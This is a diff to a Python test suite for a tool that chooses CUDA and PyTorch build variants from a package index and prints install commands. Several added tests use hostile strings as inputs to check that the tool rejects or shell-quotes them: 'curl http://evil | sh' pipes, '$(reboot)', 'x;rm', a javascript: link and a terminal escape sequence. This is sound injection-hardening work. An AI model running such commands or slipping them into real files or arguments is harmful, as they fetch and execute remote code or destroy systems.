@@ -65,6 +65,10 @@ def test_parse_variant_id_inverts_variant_id() -> None:
         (("9.0a",), "9.0", True),
         (("9.0a",), "10.0", False),
         (("8.0", "10.0"), "10.3", True),
+        (("10.0a",), "10.3", False),  # arch-specific: that capability only
+        (("10.0f",), "10.3", True),  # family: its later minors too
+        (("12.0f",), "12.1", True),
+        (("sm_120f",), "10.0", False),
     ],
 )
 def test_covers(archs: tuple[str, ...], gpu: str, ok: bool) -> None:
@@ -126,8 +130,22 @@ def test_empty_index() -> None:
 
 
 def test_parse_nvidia_smi() -> None:
-    assert parse_nvidia_smi("9.0\n8.6\n9.0\n") == ("8.6", "9.0")
-    assert parse_nvidia_smi("[N/A]\n") == ()
+    assert parse_nvidia_smi("9.0\n8.6\n9.0\n10.3\n") == ("8.6", "9.0", "10.3")
+    assert parse_nvidia_smi("[N/A]\n90\n9.0a\n8.10\n") == ()
+
+
+def test_cuda_12_10_host_gets_the_12_10_index() -> None:
+    cu12_10 = "cu12.10-torch2.14-abi1-sm80.90"
+    cu129 = "cu129-torch2.14-abi1-sm80.90"
+    choice = choose_variant(env(cuda="12.10"), [cu129, cu12_10, "cu1210-torch2.14-abi1-sm80.90"])
+    assert choice.match == cu12_10 and choice.notes == ()
+    assert choose_variant(env(cuda="12.9"), [cu129, cu12_10]).match == cu129
+
+
+def test_ids_outside_the_grammar_are_not_variants() -> None:
+    hostile = ["cu1-torch2.14-abi1-sm80", "demo-ext; curl x | sh", "cu130-torch2.14-abi1-sm80.90x"]
+    choice = choose_variant(env(), hostile)
+    assert choice.match is None and choice.nearest is None
 
 
 def test_install_commands() -> None:
@@ -137,6 +155,11 @@ def test_install_commands() -> None:
         == "pip install --index-url http://h/simple/v/ --extra-index-url https://pypi.org/simple flash-attn"
     )
     assert uv == "uv " + pip
+
+
+def test_install_commands_are_shell_quoted() -> None:
+    pip, _uv = install_commands("http://h/simple/v w/", "x;rm")
+    assert pip.endswith("--index-url 'http://h/simple/v w/' --extra-index-url https://pypi.org/simple 'x;rm'")
 
 
 def test_normalize_index_url(tmp_path: Path) -> None:
@@ -165,3 +188,26 @@ def test_which_reads_a_local_index(tmp_path: Path) -> None:
     url = f"{tmp_path.resolve().as_uri()}/simple/{NEW}/"
     assert result.commands == (install_commands(url, "flash-attn"),)
     assert which(str(tmp_path), env=env(torch="2.9.0")).choice.match is None
+
+
+def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
+    simple = tmp_path / "simple"
+    (simple / NEW).mkdir(parents=True)
+    (simple / "index.html").write_text(
+        '<a href="cu1-torch2.14-abi1-sm80/">cu1-torch2.14-abi1-sm80</a>'
+        '<a href="x/">demo-ext; curl http://evil | sh</a>'
+        f'<a href="javascript:alert(1)">{OLD}</a>'
+        f'<a href="x\x1b]0;owned\x07/">{ABI0}</a>'
+        f'<a href="{NEW}/">{NEW}</a>'
+    )
+    (simple / NEW / "index.html").write_text(
+        '<a href="a/">demo-ext; curl http://evil | sh</a><a href="b/">$(reboot)</a><a href="c/">demo-ext</a>'
+    )
+    result = which(str(tmp_path), env=env())
+    assert result.choice.match == NEW
+    assert result.projects == ("demo-ext",)
+    assert all("curl" not in pip and "$(" not in pip for pip, _uv in result.commands)
+    # The javascript: link and the one with control characters are dropped: no candidates even for a host
+    # they would suit.
+    assert which(str(tmp_path), env=env(torch="2.10.0", cuda="12.8")).choice.match is None
+    assert which(str(tmp_path), env=env(cxx11_abi=False)).choice.match is None
